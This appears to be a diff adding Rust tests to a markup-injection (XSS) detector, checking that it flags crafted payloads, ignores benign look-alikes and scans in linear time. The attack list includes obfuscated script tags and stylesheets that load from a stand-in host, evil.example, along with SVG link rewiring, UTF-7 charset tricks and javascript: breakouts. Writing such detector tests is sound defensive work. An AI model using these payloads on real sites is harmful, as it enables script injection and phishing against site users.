@@ -174,3 +174,69 @@ fn odd_bytes_do_not_panic() {
         let _ = hit(s, Level::Strict);
     }
 }
+
+#[test]
+fn markup_that_runs_or_rewires_without_an_on_attribute() {
+    // Written for this detector (html5sec-style vectors rebuilt, not copied from a corpus).
+    let attacks = [
+        "<scr\\0ipt src=//evil.example/a.js></script>",
+        "<SCR\u{0}IPT>alert(1)</SCRIPT>",
+        "<META CHARSET=\"UTF-7\">",
+        "<meta charset=x-imap4-modified-utf7>",
+        "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?><r/>",
+        "<svg><set attributeName=\"xlink:href\" to=\"//evil.example/phish\"/></svg>",
+        "<svg><a><animate attributeName=href to=//evil.example/ /></a></svg>",
+        "<listener event=\"click\" handler=\"#run\" xmlns=\"http://www.w3.org/2001/xml-events\"/>",
+        "<b xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"load\" e:handler=\"#h\">x</b>",
+        "<ilayer src=\"//evil.example/p.html\"></ilayer>",
+        "\"}]</script>",
+        "';</script>",
+        // Context breaks and obfuscations the tokenizer already reads.
+        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
+        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
+        "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "</script><svg onload=alert(1)>",
+        "'-alert(1)-'",
+        "\";alert(1)//",
+        "<input value=x autofocus onfocus=alert(1)>",
+    ];
+    for a in attacks {
+        assert!(hit(a, Level::Balanced).is_some(), "missed {a:?} (confidence {})", conf(a));
+    }
+    let benign = [
+        "Use </script> to close a script element",
+        "</script>",
+        "<meta charset=\"utf-8\">",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>",
+        "<svg><set attributeName=\"fill\" to=\"red\"/><animate attributeName=\"x\" from=\"0\" to=\"10\"/></svg>",
+        "<ul><li>scr\\0ipt</li></ul>",
+        "See https://www.w3.org/2001/xml-events for the spec",
+        "<layer> is an old Netscape element",
+    ];
+    for b in benign {
+        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
+    }
+}
+
+#[test]
+fn nul_names_and_processing_instructions_stay_linear() {
+    let n = 1 << 20;
+    for c in
+        ["<scr\\0".repeat(n / 6), "<?xml-stylesheet ".repeat(n / 17), "'</script>".repeat(n / 10), "<x xmlns=w3.org/2001/xml-events handler ".repeat(n / 40)]
+    {
+        let steps = steps_for(&c);
+        assert!(steps <= 60 * c.len() + 1000, "{} steps for {} bytes starting {:?}", steps, c.len(), &c[..8]);
+    }
+}
+
+#[test]
+fn code_that_shows_a_dialog_is_not_an_injection() {
+    for b in ["if (x) { alert('saved'); }", "function done() { confirm(\"Leave?\"); }", "for (const e of errors) { alert(e.message) }"] {
+        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
+    }
+    // The same call after a breakout, or as the whole value, is still reported.
+    for a in ["x'){alert(1)}//", "\"}); alert(1); if (a) {//", "alert(1)", "});alert(1);//"] {
+        assert!(hit(a, Level::Balanced).is_some(), "missed {a:?} (confidence {})", conf(a));
+    }
+}
